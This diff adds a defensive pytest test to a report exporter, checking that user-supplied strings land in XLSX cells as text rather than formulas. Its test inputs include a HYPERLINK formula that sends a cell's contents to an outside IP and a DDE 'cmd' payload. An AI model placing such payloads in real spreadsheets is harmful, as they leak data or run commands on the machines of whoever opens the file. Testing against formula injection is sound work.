@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import io
+import re
+import zipfile
 from datetime import UTC, date, datetime
 
 import openpyxl
 import pypdfium2 as pdfium
+import pytest
 
 from desktop.document.file.check import check_pdfa
 from desktop.report.digitisation import DigitisationReport, Indicator, digitisation_report
@@ -84,3 +87,41 @@ def test_a_long_list_goes_over_many_sheets_and_loses_none():
     text = text_of(pdf)
     assert len(pdfium.PdfDocument(pdf)) > 1
     assert all(code in text for code in codes)
+
+
+# What a spreadsheet would compute, or ask another program for, if it stood in a cell as a formula.
+LIVE = (
+    "=1+1",
+    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "{=1+1}",
+    "#REF!",
+    "=\x00\x0b1+1",
+    "00123",
+    "1e5",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("words", LIVE)
+def test_what_others_wrote_is_text_in_every_cell_and_never_a_formula(words):
+    tampered = DigitisationReport(
+        first=SOME.first,
+        last=SOME.last,
+        indicators=(Indicator(name=words, met=(), all=(words,)),),
+        unsynchronised=(),
+    )
+    data = report_xlsx(tampered, words, AT)
+    with zipfile.ZipFile(io.BytesIO(data)) as parts:
+        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
+    # As the file itself says it: no library's reading is believed.
+    assert len(sheets) == 2
+    assert not any(b"<f>" in sheet or b"<f " in sheet or b't="e"' in sheet for sheet in sheets)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [book["Chỉ số"]["B2"], book["Chỉ số"]["A8"], book["Hồ sơ"]["B1"], book["Hồ sơ"]["A2"]]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert {cell.value for cell in cells} == {re.sub(r"[\x00\x0b]", " ", words)}
+    assert all(cell.quotePrefix for cell in cells) or words[0] not in "=+-@\t\r"
